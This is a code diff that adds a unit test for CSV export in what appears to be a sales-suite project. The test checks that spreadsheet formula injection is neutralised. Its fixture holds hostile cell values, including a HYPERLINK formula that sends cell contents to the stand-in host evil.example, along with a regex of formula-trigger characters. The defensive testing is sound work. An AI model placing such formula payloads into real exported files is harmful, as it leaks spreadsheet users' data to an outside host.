@@ -1,4 +1,5 @@
 import { DomainError, TermView } from '@sales-suite/contracts';
+import { parse } from 'csv-parse/sync';
 import {
   csvField,
   csvHeader,
@@ -61,6 +62,29 @@ describe('term CSV', () => {
       sources: term.sources,
       status: term.status,
       replacedBy: term.replacedBy,
+    });
+  });
+
+  it('writes no cell a spreadsheet would run as a formula, and reads the text back exactly', () => {
+    const hostile: TermView = {
+      ...term,
+      name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+      definition: '+1',
+      details: "'-2",
+      aliases: ['-2', 'SKO'],
+      category: '@SUM(A1:A9)',
+      tags: ['\tcmd'],
+    };
+    const csv = csvHeader() + termsToCsvRecords([hostile]);
+    const cells = parse(csv, { columns: true }) as Record<string, string>[];
+    expect(Object.values(cells[0]).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    const [row] = parseTermsCsv(csv);
+    expect(row).toMatchObject({
+      name: hostile.name,
+      definition: hostile.definition,
+      details: hostile.details,
+      aliases: hostile.aliases,
+      category: hostile.category,
     });
   });
 
